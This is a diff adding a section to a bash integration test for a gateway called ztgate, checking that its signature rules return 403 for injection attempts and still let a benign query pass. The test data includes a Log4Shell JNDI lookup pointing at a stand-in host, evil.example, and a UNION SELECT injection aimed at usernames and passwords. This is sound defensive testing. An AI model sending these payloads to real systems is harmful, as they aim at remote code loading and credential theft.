@@ -481,6 +481,24 @@ get "$SERVER_URL$path" -H "Authorization: Bearer $(token valid-es256)"
 [[ $CODE == 200 ]] || fail "an old key's token after the rotation: HTTP $CODE: $BODY"
 pass "IdP key rotation: the new kid's token is unknown_kid, then verified after an early refetch; old keys still verify"
 
+# Signatures: the shipped ruleset over lab-api's requests. A JNDI lookup in a query argument is a
+# block rule; a UNION SELECT scores 5, the service's threshold; neither reaches nginx.
+before=$(wc -l <"$ACCESS_LOG")
+get "$SERVER_URL/api/v1/orders/7" --get --data-urlencode 'q=${jndi:ldap://evil.example/a}'
+expect_denial "a JNDI lookup in a query argument" 403 signature
+jq -e '.rules | index(150001) != null' <<<"$(event_for "$(jq -r .request_id <<<"$BODY")")" >/dev/null ||
+	fail "the JNDI event does not list rule 150001"
+get "$SERVER_URL/api/v1/orders/7" --get --data-urlencode "q=1' UNION SELECT username, password FROM users--"
+expect_denial "a UNION SELECT in a query argument" 403 anomaly_score
+ev=$(event_for "$(jq -r .request_id <<<"$BODY")")
+jq -e '.score >= 5 and (.rules | index(100001) != null)' <<<"$ev" >/dev/null ||
+	fail "the UNION SELECT event: no score >= 5 with rule 100001: $ev"
+get "$SERVER_URL/api/v1/orders/7" --get --data-urlencode "q=O'Brien's union of selected items" \
+	--data-urlencode 'email=a.b@example.com'
+[[ $CODE == 200 ]] || fail "a benign query with quotes and SQL-ish words: HTTP $CODE: $BODY"
+(($(wc -l <"$ACCESS_LOG") == before + 1)) || fail "access log: a request ztgate blocked by signature reached nginx"
+pass "signatures: a JNDI lookup (rule 150001) and a UNION SELECT (score $(jq .score <<<"$ev")) get 403s; a benign query passes"
+
 # explain --request judges a request's credentials too: who the token says, and why the route refuses.
 raw=$RUN/explain-other-tenant.http
 printf 'GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n' "$(tfield other-tenant path)" \
